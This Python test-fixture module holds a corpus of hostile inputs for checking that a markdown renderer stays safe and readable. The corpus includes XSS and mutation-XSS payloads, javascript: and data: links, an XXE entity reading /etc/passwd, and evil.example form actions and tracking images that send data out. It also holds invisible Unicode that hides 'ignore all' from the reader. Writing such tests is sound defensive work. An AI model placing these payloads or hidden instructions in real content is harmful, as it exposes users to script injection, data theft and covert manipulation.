"""Texts that a model, or somebody who means harm, might write; and what must still be readable."""

from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    """A text, words of it that a reader must still see, and marks that must be named for him."""

    text: str
    visible: tuple[str, ...] = ()
    named: tuple[str, ...] = ()


def link(address: str) -> Hostile:
    return Hostile(f"Before [here]({address}) after", ("Before", "here", "after"))


def tag(html: str, *visible: str) -> Hostile:
    """Raw HTML, which is shown as the text that it is."""
    return Hostile(f"Before {html} after", ("Before", *(visible or (html,)), "after"))


SHAPES = {
    "empty": Hostile(""),
    "spaces": Hostile(" \n\t\n "),
    "one character": Hostile("x", ("x",)),
    "one combining mark": Hostile("\u0301", ("\u0301",)),
    "one megabyte": Hostile("word " * 200_000 + "end", ("word", "end")),
    "one megabyte of brackets": Hostile("[" * 1_000_000, ("[[[[",)),
    "one megabyte of lines": Hostile("line\n" * 200_000 + "end", ("line", "end")),
    "one line of 200k": Hostile("x" * 200_000, ("x" * 1000,)),
    "one line of 90k": Hostile("x" * 90_000, ("x" * 1000,)),
    "one word with no break": Hostile("a" * 9_000 + " end", ("a" * 9_000, "end")),
    "blank lines": Hostile("a" + "\n" * 50_000 + "b", ("a", "b")),
    "carriage returns": Hostile("one\rtwo\r\nthree", ("one", "two", "three")),
    "no markdown but definitions": Hostile("[//]: # (hidden words)", ("hidden words",)),
    "a definition of a link": Hostile("[a]: https://b.example 'title'", ("https://b.example",)),
}

NESTING = {
    "quotes 5000 deep": Hostile("> " * 5_000 + "inmost", ("inmost",)),
    "quotes 60 deep": Hostile("> " * 60 + "inmost", ("inmost",)),
    "quotes 30 deep": Hostile("> " * 30 + "inmost", ("inmost",)),
    "lists 2000 deep": Hostile("- " * 2_000 + "inmost", ("inmost",)),
    "indented lists": Hostile(
        "\n".join("  " * depth + f"- item {depth}" for depth in range(100)),
        ("item 0", "item 50", "item 99"),
    ),
    "quotes of lists": Hostile("> - " * 500 + "inmost", ("inmost",)),
    "emphasis 5000 deep": Hostile("*" * 5_000 + "inmost" + "*" * 5_000, ("inmost",)),
    "mixed emphasis": Hostile("*a **b _c ~~" * 2_000 + "end", ("a ", "end")),
    "open links": Hostile("[a](" * 3_000 + "end", ("end",)),
    "brackets": Hostile("[" * 3_000 + "x" + "]" * 3_000, ("x",)),
    "images in links": Hostile("[![a](b)](c) " * 500 + "end", ("a", "end")),
    "braces in a formula": Hostile("$" + "{" * 900 + "x" + "}" * 900 + "$", ("x",)),
    "roots in roots": Hostile("$" + r"\sqrt{" * 200 + "x" + "}" * 200 + "$", ("x",)),
}

CODE = {
    "unclosed fence": Hostile("Look:\n```python\nx = 1\n\n# no heading", ("x = 1", "# no heading")),
    "unclosed tilde fence": Hostile("~~~\nx = 1", ("x = 1",)),
    "fence in fence": Hostile("````\n```\ninner\n```\n````\nouter", ("```\ninner", "outer")),
    "fence with attributes": Hostile('```python" onclick="alert(1)\nx\n```', ("x",)),
    "fence that closes the page": Hostile("```html\n</code></pre></main>\n```", ("</main>",)),
    "backticks": Hostile("`" * 3_001 + "x" + "`" * 3_000, ("x",)),
    "unknown language": Hostile("```<script>\nx\n```", ("x",)),
    "a thousand fences": Hostile("```js\nlet a;\n```\n" * 1_000, ("let a;",)),
}

TAGS = {
    "script": tag("<script>alert(1)</script>"),
    "script split": tag("<scr<script>ipt>alert(1)</scr</script>ipt>"),
    "script with a slash": tag("<script/src=//evil.example></script>"),
    "unclosed script": tag("<script>alert(1)"),
    "image with a handler": tag("<img src=x onerror=alert(1)>"),
    "image with back quotes": tag("<img src=`x` onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
    "handler in capitals": tag("<BODY ONLOAD=alert(1)>"),
    "handler after a line break": tag("<div\nonmouseover\n=\nalert(1)>x</div>", "onmouseover"),
    "auto focus": tag("<input autofocus onfocus=alert(1)>"),
    "details": tag("<details open ontoggle=alert(1)>"),
    "frame": tag('<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    "object": tag("<object data=data:text/html,x></object>"),
    "embed": tag("<embed src=//evil.example>"),
    "form": tag("<form action=//evil.example><button>Submit</button></form>"),
    "form attribute": tag("<button form=judgment formaction=//evil.example>Submit</button>"),
    "style": tag("<style>*{display:none}</style>"),
    "style attribute": tag('<p style="position:fixed;inset:0">over</p>'),
    "style sheet": tag("<link rel=stylesheet href=//evil.example>"),
    "base": tag("<base href=//evil.example>"),
    "refresh": tag('<meta http-equiv=refresh content="0;//evil.example">'),
    "id of the page": tag('<div id="judgment" class="bar">x</div>'),
    "name of the page": tag("<a name=judge hx-post=/sign-out/>x</a>"),
    "htmx": tag('<div hx-get="/profile/" hx-trigger="load">x</div>'),
    "template": tag("<template><script>alert(1)</script></template>"),
    "comment": tag("<!-- hidden words -->"),
    "comment that ends early": tag("<!--><img src=x onerror=alert(1)>-->"),
    "conditional comment": tag("<!--[if IE]><script>alert(1)</script><![endif]-->"),
    "CDATA": tag("<![CDATA[<script>alert(1)</script>]]>"),
    "instruction": tag('<?xml version="1.0"?>'),
    "doctype": tag('<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>'),
    "closing tags": tag("</div></article></main></body></html>"),
    "plain text": tag("<plaintext>"),
    "noscript": tag('<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    "video": tag("<video><source onerror=alert(1)></video>"),
}

SVG_AND_MATHML = {
    "svg": tag("<svg onload=alert(1)>"),
    "svg script": tag("<svg><script href=data:,alert(1) /></svg>"),
    "svg animate": tag("<svg><a><animate attributeName=href values=javascript:alert(1) /></a>"),
    "svg use": tag('<svg><use href="data:image/svg+xml,x#y"/></svg>'),
    "foreign object": tag("<svg><foreignObject><iframe src=//evil.example>"),
    "svg style": tag("<svg><style><img src=x onerror=alert(1)></style></svg>"),
    "mathml link": tag('<math><mtext href="javascript:alert(1)">x</mtext></math>'),
    "mathml annotation": tag(
        "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>"
    ),
    "mathml action": tag("<math><maction actiontype=statusline>x</maction></math>"),
    "mutation by mglyph": tag(
        "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=alert(1)>'>"
    ),
    "mutation by form": tag(
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
    "mutation by svg": tag("<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>"),
    "mutation by select": tag("<select><style></select><img src onerror=alert(1)>"),
}

LINKS = {
    "javascript": link("javascript:alert(1)"),
    "javascript in mixed case": link("JaVaScRiPt:alert(1)"),
    "javascript with a tab": link("java\tscript:alert(1)"),
    "javascript with a line break": link("java&#10;script:alert(1)"),
    "javascript with an entity": link("&#106;avascript:alert(1)"),
    "javascript with a long entity": link("&#0000106avascript&colon;alert(1)"),
    "javascript behind a control": link("\x01javascript:alert(1)"),
    "javascript behind white space": link("<  javascript:alert(1)>"),
    "javascript behind percent signs": link("%6Aavascript:alert(1)"),
    "javascript in wide letters": link("ｊavascript:alert(1)"),
    "view-source": link("view-source:javascript:alert(1)"),
    "data": link("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    "data in mixed case": link("DaTa:text/html,<b>x"),
    "vbscript": link("vbscript:msgbox(1)"),
    "file": link("file:///etc/passwd"),
    "blob": link("blob:https://a.example/1"),
    "no scheme": link("//evil.example"),
    "own address": link("/sign-out/"),
    "fragment": link("#judgment"),
    "quote in a link": link('https://a.example/"onmouseover="alert(1)'),
    "javascript by reference": Hostile("[here][r]\n\n[r]: javascript:alert(1)", ("here",)),
    "javascript in angles": Hostile("<javascript:alert(1)>", ("javascript:alert(1)",)),
    "javascript image": Hostile("![seen](javascript:alert(1))", ("seen",)),
    "data image": Hostile("![seen](data:image/svg+xml;base64,PHN2Zz4=)", ("seen",)),
    "tracking image": Hostile("![seen](https://evil.example/p.gif?who=ana)", ("seen",)),
    "title with a handler": Hostile('[here](https://a.example "\'onclick=alert(1)")', ("here",)),
}

CHARACTERS = {
    "right-to-left override": Hostile("a \u202egnp.exe b", ("a ", "gnp.exe", " b"), ("U+202E",)),
    "override never closed": Hostile("\u202e\u202e" * 50 + "x\n\ny", ("x", "y"), ("U+202E×100",)),
    "isolate never closed": Hostile("x \u2067y\u2066z", ("x", "y", "z"), ("U+2067", "U+2066")),
    "pops without a push": Hostile("x\u2069\u202cy", ("x", "y"), ("U+2069 U+202C",)),
    "override by entity": Hostile("x &#x202E;y", ("x", "y"), ("U+202E",)),
    "override in code": Hostile("```python\nx = '\u202e'\n```", ("x = ",), ("U+202E",)),
    "override in inline code": Hostile("`a\u202eb`", ("a", "b"), ("U+202E",)),
    "override in a formula": Hostile("$a\u202eb$", ("a",)),
    "override in a broken formula": Hostile("$\\frac{\u202e$", ("U+202E",)),
    "override in a link": Hostile("[a\u202eb](https://a.example/\u202e)", ("a", "b"), ("U+202E",)),
    "override in a table": Hostile("|\u202ea|b|\n|-|-|\n|c|d|", ("a", "b", "d"), ("U+202E",)),
    "zero-width space": Hostile("pass\u200bword", ("pass", "word"), ("U+200B",)),
    "zero-width joiners": Hostile("pa\u200dss\u200cword", ("pa", "word"), ("U+200D", "U+200C")),
    "a message in zero width": Hostile("Hi" + "\u200b\u200c" * 9_000, ("Hi",), ("U+200B…×18000",)),
    "a message in tags": Hostile(
        "Hi" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all"),
        ("Hi",),
        ("U+E0069…×10",),
    ),
    "a message in variations": Hostile("Hi\U000e0131\U000e0132", ("Hi",), ("U+E0131 U+E0132",)),
    "byte order mark": Hostile("\ufeffHi", ("Hi",), ("U+FEFF",)),
    "word joiner": Hostile("a\u2060b", ("a", "b"), ("U+2060",)),
    "filler": Hostile("a\u3164b", ("a", "b"), ("U+3164",)),
    "line separator": Hostile("a\u2028b\u2029c", ("a", "b", "c"), ("U+2028", "U+2029")),
    "terminal colours": Hostile("\x1b[31mred\x1b[0m", ("red",), ("U+001B",)),
    "terminal title": Hostile("\x1b]0;title\x07text", ("title", "text"), ("U+001B", "U+0007")),
    "bell and backspace": Hostile("a\x07b\x08c", ("a", "b", "c"), ("U+0007", "U+0008")),
    "C1 control": Hostile("a\x9bb", ("a", "b"), ("U+009B",)),
    "nul": Hostile("a\x00b", ("a\ufffdb",)),
    "nul by entity": Hostile("a&#0;b", ("a\ufffdb",)),
    "lone surrogate": Hostile("a\ud800b", ("a?b",)),
    "surrogates the wrong way": Hostile("a\udc00\ud800b", ("a??b",)),
    "non-character": Hostile("a\uffffb\ufdd0c", ("a", "b", "c"), ("U+FFFF", "U+FDD0")),
    "stacked marks": Hostile("Z" + "\u0310\u0489" * 3_000 + " end", ("Z", "end")),
    "homoglyphs": Hostile("[аррӏе.com](https://xn--80ak6aa92e.com)", ("аррӏе.com",)),
    "wide forms": Hostile("＜script＞alert(1)＜/script＞", ("＜script＞",)),
    "entities": Hostile("&lt;script&gt;alert(1)&lt;/script&gt;", ("<script>alert(1)</script>",)),
    "entities twice": Hostile("&amp;lt;script&amp;gt;", ("&lt;script&gt;",)),
    "open entities": Hostile("&lt &#60 &#x3c", ("&lt", "&#60", "&#x3c")),
    "emoji": Hostile("👩🏽‍🚀 ❤️‍🔥 1️⃣ 🏴󠁧󠁢󠁥󠁮󠁧󠁿", ("👩🏽‍🚀", "❤️‍🔥", "1️⃣", "🏴󠁧󠁢󠁥󠁮󠁧󠁿")),
    "persian": Hostile("می‌خواهم کتاب‌ها", ("می‌خواهم", "کتاب‌ها")),
    "devanagari": Hostile("क्‍ष र्‍य", ("क्‍ष", "र्‍य")),
    "thai": Hostile("สวัสดี\u200bครับ", ("สวัสดี\u200bครับ",)),
    "hebrew with marks": Hostile("\u200fC++\u200e שלום", ("\u200fC++\u200e שלום",)),
}

FORMULAS = {
    "open formula": Hostile("$$ \\frac{1}{", ("\\frac{1}{",)),
    "broken formula": Hostile("$\\frac{a}{$", ("\\frac{a}{",)),
    "unknown command": Hostile("$\\notacommand{x}$", ("x",)),
    "link in a formula": Hostile("$\\href{javascript:alert(1)}{x}$", ("x",)),
    "style in a formula": Hostile("$\\style{position:fixed}{x}$", ("x",)),
    "tags in a formula": Hostile("$\\text{<script>alert(1)</script>}$", ("alert(1)",)),
    "entities in a formula": Hostile("$\\text{&lt;img src=x onerror=alert(1)&gt;}$", ("img",)),
    "huge size in a formula": Hostile("$\\rule{9999em}{9999em}x$", ("x",)),
    "a thousand formulas": Hostile("$x^2$ " * 1_000 + "end", ("x", "end")),
    "a wrong environment": Hostile("$$\\begin{matrix} a & b \\end{pmatrix}$$", ("a",)),
    "macro that calls itself": Hostile("$\\def\\x{\\x\\x}\\x$", ("x",)),
}

TABLES = {
    "wide table": Hostile("|a" * 500 + "|\n" + "|-" * 500 + "|\n" + "|z" * 500 + "|", ("a", "z")),
    "long table": Hostile("|a|b|\n|-|-|\n" + "|c|d|\n" * 5_000, ("a", "d")),
    "uneven table": Hostile("|a|b|\n|-|-|\n|c|\n|d|e|f|", ("a", "b", "c", "d", "e")),
    "tags in a table": Hostile("|<script>|\n|-|\n|<img src=x onerror=alert(1)>|", ("<script>",)),
    "table with style": Hostile('|a|\n|:-:" style="x|\n|b|', ("a", "b")),
}

CORPUS = {
    **SHAPES, **NESTING, **CODE, **TAGS, **SVG_AND_MATHML, **LINKS, **CHARACTERS, **FORMULAS,
    **TABLES,
}  # fmt: skip
